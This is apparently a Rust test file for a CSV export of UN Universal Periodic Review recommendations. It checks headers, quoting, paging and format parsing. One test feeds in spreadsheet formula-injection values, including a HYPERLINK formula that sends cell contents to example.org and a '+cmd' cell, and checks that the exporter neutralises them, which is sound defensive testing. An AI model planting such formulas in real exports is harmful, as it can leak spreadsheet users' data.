//! The CSV export, read back with the csv crate as a script would.

mod common;

use common::{micro, row};
use uprkit_docs::{ExportFormat, RecommendationExport, export_to_bytes};

const HEADER: [&str; 19] = [
    "id",
    "state_under_review",
    "state_under_review_name",
    "recommending_states",
    "recommending_state_names",
    "cycle",
    "session",
    "paragraph",
    "response",
    "action_category",
    "issues",
    "themes",
    "groups_of_persons",
    "sdgs",
    "text",
    "language",
    "source",
    "coded_by",
    "recommended_previously",
];

fn read(bytes: &[u8]) -> Vec<csv::StringRecord> {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("starts with a UTF-8 BOM");
    let mut reader = csv::Reader::from_reader(body);
    assert_eq!(reader.headers().expect("header"), HEADER.as_slice());
    reader.records().map(|r| r.expect("record")).collect()
}

#[test]
fn bom_header_crlf_and_one_row_per_recommendation() {
    let rows = micro();
    let bytes = export_to_bytes(ExportFormat::Csv, &rows).expect("export");
    assert!(bytes.starts_with(b"\xEF\xBB\xBFid,state_under_review,"));
    let header_end = bytes.iter().position(|b| *b == b'\n').expect("a line end");
    assert_eq!(bytes[header_end - 1], b'\r', "CRLF line ends");
    let records = read(&bytes);
    assert_eq!(records.len(), 25);
    let ids: Vec<String> = rows.iter().map(|r| r.id.to_string()).collect();
    let read_ids: Vec<&str> = records.iter().map(|r| &r[0]).collect();
    assert_eq!(read_ids, ids);
}

#[test]
fn every_field_in_its_own_column() {
    let mut bahrain = row(&micro(), 400);
    // A variant made from the fixture row: UPR Info rows carry no SDGs or themes.
    bahrain.sdgs = vec![5, 16];
    bahrain.themes = vec!["Women's rights".into(), "Rights of the child".into()];
    bahrain.paragraph = Some("140.10".into());
    bahrain.coded_by = vec!["upr_info".into(), "suggested".into()];
    bahrain.recommended_previously = vec![12, 40];
    let bytes = export_to_bytes(ExportFormat::Csv, &[bahrain.clone()]).expect("export");
    let records = read(&bytes);
    let r = &records[0];
    let fields: Vec<&str> = r.iter().collect();
    assert_eq!(
        fields,
        [
            "400",
            "BHR",
            "Bahrain",
            "FRA",
            "France",
            "1",
            "1",
            "140.10",
            "Noted",
            "1",
            "Rights of the Child; Women's rights",
            "Women's rights; Rights of the child",
            "",
            "5; 16",
            bahrain.text.as_str(),
            "en",
            "upr-info: uprinfo_micro_25.csv",
            "upr_info; suggested",
            "12; 40",
        ]
    );
}

#[test]
fn quotes_commas_and_newlines_round_trip() {
    let rows = micro();
    let paraguay = row(&rows, 19220);
    assert!(paraguay.text.contains("\"Tekoporã\""));
    let mut two_paragraphs = row(&rows, 7579);
    two_paragraphs.text = format!("{}\r\n{}", two_paragraphs.text, row(&rows, 1307).text);
    let bytes = export_to_bytes(ExportFormat::Csv, &[paraguay.clone(), two_paragraphs.clone()]).expect("export");
    let records = read(&bytes);
    assert_eq!(records.len(), 2);
    assert_eq!(&records[0][14], paraguay.text);
    assert_eq!(&records[1][14], two_paragraphs.text);
}

#[test]
fn text_that_starts_like_a_formula_is_neutralised_but_numbers_are_not() {
    let rows = micro();
    let mut attack = row(&rows, 4088);
    attack.text = format!("=HYPERLINK(\"http://example.org/?\"&A1,\"{}\")", attack.text);
    attack.issues = vec!["@SUM(1+1)".into(), "-1+2".into()];
    attack.source = "+cmd".into();
    let bytes = export_to_bytes(ExportFormat::Csv, &[attack.clone()]).expect("export");
    let r = &read(&bytes)[0];
    assert_eq!(&r[14], format!("'{}", attack.text));
    // Only the start of a cell matters; the second issue is not at the start.
    assert_eq!(&r[10], "'@SUM(1+1); -1+2");
    assert_eq!(&r[16], "'+cmd");
    assert_eq!(&r[0], "4088");
    assert_eq!(&r[1], "POL");
}

#[test]
fn page_by_page_equals_all_at_once_and_writes_to_a_file() {
    let rows = micro();
    let whole = export_to_bytes(ExportFormat::Csv, &rows).expect("export");

    let dir = std::env::temp_dir().join(format!("uprkit-docs-csv-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join("recommendations.csv");
    let file = std::io::BufWriter::new(std::fs::File::create(&path).expect("temp file"));
    let mut export = RecommendationExport::new(ExportFormat::Csv, file).expect("export starts");
    for page in rows.chunks(7) {
        export.write_rows(page).expect("page written");
    }
    assert_eq!(export.rows_written(), 25);
    drop(export.finish().expect("export finished"));
    assert_eq!(std::fs::read(&path).expect("file read"), whole);
    std::fs::remove_dir_all(&dir).expect("temp dir removed");
}

#[test]
fn an_empty_result_still_has_the_header() {
    let bytes = export_to_bytes(ExportFormat::Csv, &[]).expect("export");
    assert!(read(&bytes).is_empty());
}

#[test]
fn formats_parse_and_name_themselves() {
    assert_eq!(ExportFormat::parse("CSV"), Some(ExportFormat::Csv));
    assert_eq!(ExportFormat::parse(".xlsx"), Some(ExportFormat::Xlsx));
    assert_eq!(ExportFormat::parse("xls"), None);
    assert!("pdf".parse::<ExportFormat>().is_err());
    assert_eq!(ExportFormat::Xlsx.extension(), "xlsx");
    assert!(ExportFormat::Csv.content_type().starts_with("text/csv"));
    assert_eq!(ExportFormat::Xlsx.content_type(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
}
